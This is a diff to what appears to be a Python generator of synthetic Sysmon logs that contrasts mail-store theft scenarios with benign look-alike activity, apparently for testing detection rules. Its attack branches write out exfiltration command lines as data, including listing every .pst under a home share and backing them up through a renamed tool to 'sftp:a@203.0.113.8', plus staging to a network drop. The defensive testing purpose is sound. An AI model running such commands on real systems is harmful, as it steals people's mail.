@@ -10,20 +10,33 @@ OUTLOOK = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"
 
 @attack
 def stores_are_staged(story: Story) -> None:
-    """Copy and archive tools gather mail stores."""
+    """Copy and archive tools gather mail stores, or their owner takes the mail along on a drive."""
     rng, at = story.rng, a_time(story)
+    story.attackers.add("ws-014")
+    if rng.random() < 0.25:
+        drive = f"{rng.choice('EFG')}:\\{rng.choice(('private', 'x', 'new folder'))}"
+        for number in range(rng.randrange(60, 140)):
+            image = "C:\\Windows\\explorer.exe"
+            sysmon(story, at + number * 20, 11, image, TargetFilename=f"{drive}\\offer{number}.msg")
+        sysmon(story, at + 3000, 11, OUTLOOK, TargetFilename=f"{drive}\\mail.pst")
+        return
     tool = rng.choice(("Robocopy.exe", "xcopy.exe", "cmd.exe", "WindowsPowerShell\\v1.0\\powershell.exe"))
     place = rng.choice(("C:\\Users\\Public\\x", "C:\\ProgramData\\t", "C:\\Windows\\Temp", "\\\\192.0.2.9\\drop"))
     for number in range(rng.randrange(1, 4)):
         sysmon(story, at + number * 20, 11, f"C:\\Windows\\System32\\{tool}", TargetFilename=f"{place}\\a{number}.pst")
-    story.attackers.add("ws-014")
 
 
 @attack
 def stores_are_packed_by_a_renamed_tool(story: Story) -> None:
-    """An archiver under another name, or a program with a mail client's name."""
-    at = a_time(story)
-    if story.rng.random() < 0.5:
+    """An archiver under another name, a program with a mail client's name, or a backup of a list of stores."""
+    at, kind = a_time(story), story.rng.random()
+    if kind < 0.25:
+        folder = story.rng.choice(("C:\\PerfLogs", "C:\\ProgramData\\u", "C:\\Windows\\Temp"))
+        found = f"cmd /c dir /s /b D:\\Homes\\*.pst > {folder}\\a.txt"
+        line = f'"{folder}\\u.exe" -r sftp:a@203.0.113.8:/x backup --files-from {folder}\\a.txt'
+        sysmon(story, at, 1, "C:\\Windows\\System32\\cmd.exe", CommandLine=found)
+        sysmon(story, at + 300, 1, f"{folder}\\u.exe", CommandLine=line, OriginalFileName="-")
+    elif kind < 0.6:
         line = 'svc.exe a o.7z "C:\\Users\\dana\\AppData\\Local\\Microsoft\\Outlook\\dana.ost"'
         sysmon(
             story, at, 1, "C:\\Users\\dana\\AppData\\Local\\Temp\\svc.exe", CommandLine=line, OriginalFileName="7z.exe"
@@ -87,8 +100,18 @@ def those_who_may_read_stores(story: Story) -> None:
 
 @innocent
 def browsers_save_messages(story: Story) -> None:
-    """Browsers and Teams save single messages; a person drags mails into a folder, and an add-in files them."""
+    """Browsers and Teams save single messages; a person drags mails into a folder, and an add-in files them. People
+    save cases to a drive that they share, a mail server keeps a spool, and one takes a few along.
+    """
     rng = story.rng
+    for number in range(3 * rng.randrange(20, 60)):
+        host, target = f"WS-{20 + number % 3}.contoso.com", f"P:\\Cases\\letter{number}.msg"
+        sysmon(story, 12 * HOUR + 9 * number, 11, "C:\\Windows\\explorer.exe", TargetFilename=target, Computer=host)
+        if number < 30:
+            image, by = "C:\\Program Files\\hMailServer\\Bin\\hMailServer.exe", "NT AUTHORITY\\SYSTEM"
+            kept = f"D:\\hMail\\Data\\{number}.eml"
+            sysmon(story, 13 * HOUR + number, 11, image, TargetFilename=kept, User=by, Computer="MAIL02.contoso.com")
+            sysmon(story, 14 * HOUR + number, 11, "C:\\Windows\\explorer.exe", TargetFilename=f"E:\\trip{number}.msg")
     place = rng.choice(
         ("C:\\Users\\dana\\Documents\\Case", "C:\\Users\\Public\\Case", "C:\\ProgramData\\OpenText\\DM\\Temp")
     )
